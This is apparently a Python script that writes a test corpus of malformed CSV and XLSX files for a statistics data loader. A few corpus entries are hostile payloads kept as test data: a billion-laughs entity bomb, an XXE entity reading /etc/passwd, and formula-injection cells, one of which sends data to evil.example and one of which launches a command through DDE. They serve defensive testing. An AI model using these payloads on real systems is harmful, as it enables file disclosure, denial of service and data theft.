"""Write the malformed-file corpus of ``tests/data_sources/test_loader_corpus.py`` into this directory.

Run by hand when the corpus changes (``.venv/bin/python tests/data_sources/corpus/make_corpus.py``);
the files are committed. README.md says what each file is and what loading it gives. The output is
deterministic: XLSX files carry fixed time stamps, the junk file comes from a seeded generator.
The zip bomb and the files around the size limit are generated at test time, not here.
"""

from __future__ import annotations

import datetime as dt
import io
import random
import re
import zipfile
from pathlib import Path
from typing import Any, Iterable, Sequence

import openpyxl

HERE = Path(__file__).resolve().parent
#: Time stamp of every XLSX part and of the workbooks' properties (deterministic bytes).
FIXED_TIME = dt.datetime(2025, 1, 1)
FIXED_STAMP = FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ").encode()

Line = Sequence[str] | str


def csv_bytes(lines: Iterable[Line], *, sep: str = ";", encoding: str = "utf-8") -> bytes:
    """Lines (lists of cells joined by ``sep``, or raw text) ended by CRLF, encoded."""
    text = "".join((sep.join(line) if not isinstance(line, str) else line) + "\r\n" for line in lines)
    return text.encode(encoding)


def zip_bytes(members: dict[str, bytes]) -> bytes:
    """A deflated ZIP archive of ``members`` with fixed time stamps."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def xlsx_members(sheets: dict[str, list[list[Any]]]) -> dict[str, bytes]:
    """The parts of a workbook openpyxl writes for ``{sheet title: rows}``."""
    workbook = openpyxl.Workbook()
    workbook.properties.created = FIXED_TIME
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    with zipfile.ZipFile(out) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    # openpyxl stamps the save time as "modified": the fixed time instead
    members["docProps/core.xml"] = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>" + FIXED_STAMP,
                                          members["docProps/core.xml"])
    return members


def xlsx_bytes(sheets: dict[str, list[list[Any]]]) -> bytes:
    return zip_bytes(xlsx_members(sheets))


def sheet_with_doctype(doctype: str, cell_text: str, entity: str) -> bytes:
    """A one-sheet workbook whose sheet XML declares ``doctype`` and uses ``&entity;`` in a cell."""
    members = xlsx_members({"observations": [["indicator", "period", "value"],
                                             ["LIFE_EXPECTANCY", cell_text, 70]]})
    sheet = members["xl/worksheets/sheet1.xml"].decode("utf-8")
    body = sheet.split("?>", 1)[-1] if sheet.startswith("<?xml") else sheet
    members["xl/worksheets/sheet1.xml"] = ('<?xml version="1.0" encoding="UTF-8"?>' + doctype
                                           + body.replace(cell_text, f"&{entity};")).encode("utf-8")
    return zip_bytes(members)


OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HEADER_EN = ["indicator", "period", "value"]


def corpus() -> dict[str, bytes]:
    """File name -> bytes of every committed corpus file. No two files load the same figure (indicator,
    region, period), so any of them can be loaded together into one store."""
    good_xlsx = xlsx_bytes({"observations": [HEADER_EN, ["LIFE_EXPECTANCY", "2040", 70],
                                             ["LIFE_EXPECTANCY", "2041", 71]]})
    junk = bytearray(random.Random(1048).randbytes(2048))
    junk[:2] = b"\x01\x9c"  # not a ZIP, OLE or BOM signature, whatever the seed gives
    return {
        # --- encodings ------------------------------------------------------------------------------------
        "utf16_le_bom.csv": csv_bytes([HEADER_EN, ["LIFE_EXPECTANCY", "2040", "70"]], encoding="utf-16"),
        "utf16_le_no_bom.csv": csv_bytes([HEADER_EN, ["LIFE_EXPECTANCY", "2040", "70"]], encoding="utf-16-le"),
        "utf8_bom_invalid.csv": csv_bytes([HEADER_EN + ["comment"], ["LIFE_EXPECTANCY", "2040", "70", "ok"]],
                                          encoding="utf-8-sig")
        + b"LIFE_EXPECTANCY;2041;71;" + "Қазақстан".encode("kz1048") + b"\r\n",
        "binary_junk.csv": bytes(junk),
        "kazakh_kz1048.csv": csv_bytes([
            ["Көрсеткіш", "Кезең", "Өңір", "Мән", "Түсініктеме"],
            ["LIFE_EXPECTANCY", "2040", "Алматы қаласы", "76,4", "Әсем өңір: ұңғыма, қөң, һ"],
            ["LIFE_EXPECTANCY", "2040", "Ақмола облысы", "72,9", "Ғылыми болжам"],
        ], encoding="kz1048"),
        "kazakh_utf8_bom.csv": csv_bytes([
            ["көрсеткіш", "кезең", "өңір", "мән", "өлшем бірлігі", "түсініктеме"],
            ["UNEMPLOYMENT_RATE", "2040-Q1", "Шымкент қаласы", "4,9", "%", "Жұмыссыздық деңгейі"],
            ["UNEMPLOYMENT_RATE", "2040-Q1", "", "4,7%", "percent", "Қазақстан бойынша"],
        ], encoding="utf-8-sig"),
        "russian_cp1251.csv": csv_bytes([
            ["Показатель", "Период", "Регион", "Значение", "Ед. изм.", "Комментарий"],
            ["BIRTHS", "01.2040", "город Астана", "3 415", "people", "Оперативные данные, ёмкость «А»"],
            ["BIRTHS", "2040-02", "Карагандинская область", "2 980", "", "Уточнённые"],
        ], encoding="cp1251"),
        # --- separators and numbers --------------------------------------------------------------------------
        "tab_separated.txt": csv_bytes([
            ["indicator", "period", "region", "value"],
            ["LIFE_EXPECTANCY", "2041", "AST", "75.5"],
            ["LIFE_EXPECTANCY", "2041", "kgd", "72,25"],
        ], sep="\t"),
        "comma_separated.csv": csv_bytes([
            "indicator,period,region,value,comment",
            'UNEMPLOYMENT_RATE,2041-Q2,,"4,6","quoted, with a comma"',
            'UNEMPLOYMENT_RATE,2041-Q2,ALA,"5,1%",',
        ]),
        "mixed_number_formats.csv": csv_bytes([
            ["indicator", "period", "region", "value"],
            ["BIRTHS", "2041-01", "KZ", "1 234,5"],
            ["BIRTHS", "2041-02", "KZ", "1.234,5"],
            ["BIRTHS", "2041-03", "KZ", "1,234.5"],
            ["BIRTHS", "2041-04", "KZ", "1'234.5"],
            ["BIRTHS", "2041-05", "KZ", "123\u00a0456"],
            ["BIRTHS", "2041-06", "KZ", "1.234.5"],      # row 7: a short digit group
            ["BIRTHS", "2041-07", "KZ", "1,234.5,6"],    # row 8: two decimal marks
            ["BIRTHS", "2041-08", "KZ", "1.234,567.8"],  # row 9: mixed, twice
        ]),
        # --- file types ------------------------------------------------------------------------------------
        "excel97.xls": OLE_MAGIC + b"\0" * 504,
        "excel97_named.csv": OLE_MAGIC + b"\0" * 504,
        "pdf_named.xlsx": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n",
        "empty.csv": b"",
        "whitespace.csv": b"  \r\n\t \r\n   \r\n",
        "separators_only.csv": b";;;\r\n;;\r\n;\r\n",
        "damaged.xlsx": good_xlsx[: len(good_xlsx) // 2],
        "not_a_workbook.xlsx": zip_bytes({"word/document.xml": b"<document/>", "[Content_Types].xml": b"<Types/>"}),
        "billion_laughs.xlsx": sheet_with_doctype(
            '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
            '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>', "2040", "lol3"),
        "xxe.xlsx": sheet_with_doctype('<!DOCTYPE sheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "2040", "xxe"),
        "two_sheets.xlsx": xlsx_bytes({
            "Пояснения": [["Данные для загрузки — на листе observations"]],
            "observations": [["Показатель", "Период", "Значение"], ["LIFE_EXPECTANCY", "2042", 74.5],
                             ["LIFE_EXPECTANCY", "2042-Q1", 74.6]],
        }),
        "uncached_formula.xlsx": xlsx_bytes({"Лист1": [
            ["көрсеткіш", "кезең", "мән"], ["LIFE_EXPECTANCY", 2043, 73], ["LIFE_EXPECTANCY", 2044, "=70+3"],
        ]}),
        # --- header rules ----------------------------------------------------------------------------------
        "header_only.csv": csv_bytes([["Показатель", "Период", "Значение", "Регион"]]),
        "missing_period.csv": csv_bytes([["indicator", "region", "value"], ["LIFE_EXPECTANCY", "AST", "70"]]),
        "value_twice.csv": csv_bytes([["indicator", "period", "value", "значение"],
                                      ["LIFE_EXPECTANCY", "2040", "70", "70"]]),
        "unknown_columns.csv": csv_bytes([["name", "date", "amount"], ["Births in Astana", "2040-01-31", "3400"]]),
        "leading_blank_rows.csv": csv_bytes(["", ";;", HEADER_EN, ["LIFE_EXPECTANCY", "2045", "70"],
                                             ["LIFE_EXPECTANCY", "2046", "seventy"]]),
        "unterminated_quote.csv": csv_bytes([HEADER_EN, ["LIFE_EXPECTANCY", "2047", "70"],
                                             'LIFE_EXPECTANCY;2048;"71', ["LIFE_EXPECTANCY", "2049", "72"]]),
        # --- each row problem of the observations template ---------------------------------------------------
        "indicator_unknown.csv": csv_bytes([
            ["Показатель", "Период", "Значение"],
            ["ПРОДОЛЖИТЕЛЬНОСТЬ_ЖИЗНИ", "2050", "70"],
            ["", "2050", "70"],
            ["life_expectancy", "2050", "70"],
        ]),
        "region_unknown.csv": csv_bytes([
            ["көрсеткіш", "кезең", "өңір", "мән"],
            ["LIFE_EXPECTANCY", "2051", "Алматы", "70"],       # the city or the region: never guessed
            ["LIFE_EXPECTANCY", "2051", "Atlantis", "70"],
            ["LIFE_EXPECTANCY", "2051", "Алматы облысы", "70"],
        ]),
        "period_invalid.csv": csv_bytes([
            HEADER_EN,
            ["BIRTHS", "2040-13", "10"],
            ["BIRTHS", "31.02.2040", "10"],
            ["BIRTHS", "январь 2040", "10"],
            ["BIRTHS", "", "10"],
            ["BIRTHS", "29.02.2040", "10"],
        ]),
        "period_frequency.tsv": csv_bytes([
            HEADER_EN,
            ["UNEMPLOYMENT_RATE", "2040-05", "4.8"],
            ["LIFE_EXPECTANCY", "2040-Q2", "71"],
            ["BIRTHS", "2040", "40000"],
            ["UNEMPLOYMENT_RATE", "2040-05-20", "4.8"],
        ], sep="\t"),
        "value_missing.csv": csv_bytes([
            "indicator,period,region,value",
            'LIFE_EXPECTANCY,2052,AST,""',
            "LIFE_EXPECTANCY,2052,ALA,   ",
            "LIFE_EXPECTANCY,2052,KGD,71",
            "LIFE_EXPECTANCY,2052,SHY",
        ]),
        "value_invalid.csv": csv_bytes([
            HEADER_EN,
            ["BIRTHS", "2040-01", "1,2,3"],
            ["BIRTHS", "2040-02", "1e5"],
            ["BIRTHS", "2040-03", "nan"],
            ["BIRTHS", "2040-04", "3 400 чел."],
            ["BIRTHS", "2040-05", "—"],
            ["BIRTHS", "2040-06", "3400"],
        ]),
        "value_percent.csv": csv_bytes([
            HEADER_EN,
            ["LIFE_EXPECTANCY", "2040", "75%"],
            ["UNEMPLOYMENT_RATE", "2040-Q3", "%4,9"],
            ["BIRTHS", "2040-01", "12%"],
        ]),
        "value_out_of_range.csv": csv_bytes([
            HEADER_EN,
            ["LIFE_EXPECTANCY", "2053", "54,99"],
            ["LIFE_EXPECTANCY", "2054", "55"],
            ["LIFE_EXPECTANCY", "2055", "90"],
            ["LIFE_EXPECTANCY", "2056", "90,01"],
            ["UNEMPLOYMENT_RATE", "2040-Q1", "-0,1%"],
        ]),
        "unit_mismatch.csv": csv_bytes([
            ["indicator", "period", "value", "unit"],
            ["LIFE_EXPECTANCY", "2057", "70", "лет"],
            ["LIFE_EXPECTANCY", "2058", "70", "YEARS"],
            ["BIRTHS", "2040-01", "3400", "%"],
            ["UNEMPLOYMENT_RATE", "2042-Q1", "4,9", "%"],
            ["UNEMPLOYMENT_RATE", "2042-Q2", "4,9", "percent_gdp"],
        ]),
        "duplicate_conflict.csv": csv_bytes([
            ["indicator", "period", "region", "value"],
            ["LIFE_EXPECTANCY", "2059", "AST", "75"],
            ["LIFE_EXPECTANCY", "2059", "город Астана", "75,5"],
            ["life_expectancy", "2059", "Астана", "75"],
            ["UNEMPLOYMENT_RATE", "2043-Q1", "ala", "5"],
            ["UNEMPLOYMENT_RATE", "2043-q1", "ALA", "5,0"],
        ]),
        "row_columns.csv": csv_bytes([
            HEADER_EN,
            ["LIFE_EXPECTANCY", "2060", "70", "", ""],
            ["LIFE_EXPECTANCY", "2061", "70", "", "lost note"],
            ["LIFE_EXPECTANCY", "2062", "70,5", "5"],
        ]),
        # --- formula injection --------------------------------------------------------------------------------
        "formula_injection.csv": csv_bytes([
            ["indicator", "period", "value", "comment"],
            ["LIFE_EXPECTANCY", "2063", "70", '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")'],
            ["LIFE_EXPECTANCY", "2064", "+71", "@SUM(1+1)*cmd|' /C calc'!A0"],
            ["=1+1", "2065", "72", "-2+3"],
        ]),
    }


def main() -> None:
    files = corpus()
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(files)} files to {HERE}")


if __name__ == "__main__":
    main()
